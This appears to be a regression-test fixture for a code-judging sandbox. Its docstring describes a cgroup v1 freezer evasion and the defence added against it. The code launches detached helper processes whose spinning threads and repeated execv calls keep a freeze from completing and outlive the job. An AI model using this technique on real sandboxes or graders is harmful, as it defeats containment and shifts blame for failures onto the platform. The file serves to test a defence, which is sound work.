"""Exploit (a box the freezer cannot stop, cgroup v1): a helper in its own session whose threads spin while its main
thread re-executes the program, over and over. An exec waits (killable, not freezable) in the kernel's de_thread for
its sibling threads to exit; when the freezer has frozen them first, they never exit and the freeze never completes.
Before: the judge waited 10 s and called it an infra_error, a platform failure the candidate could cause at will.
Defence: a freeze that does not complete kills the whole box and is the candidate's policy_violation ("the box could
not be frozen"). MARKER is filled in by the test so it can look for survivors."""
import os
import subprocess
import sys

import torch.distributed as dist

MARKER = "__MARKER__"
HELPER = """
import os, sys, threading
def spin():
    while True:
        pass
def again():
    # A large argument list: the kernel copies it before de_thread, which widens the window the freezer meets.
    os.execv(sys.executable, [sys.executable, "-S", "-c", sys.argv[1], sys.argv[1], sys.argv[2]] + ["x" * 100000] * 15)
for _ in range(3):
    threading.Thread(target=spin, daemon=True).start()
threading.Thread(target=again).start()
spin()
"""

if int(os.environ.get("RANK", "0")) == 0:
    for _ in range(4):
        subprocess.Popen([sys.executable, "-S", "-c", HELPER, HELPER, MARKER], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def solution(tensor):
    out = tensor.clone()
    dist.all_reduce(out)
    return out
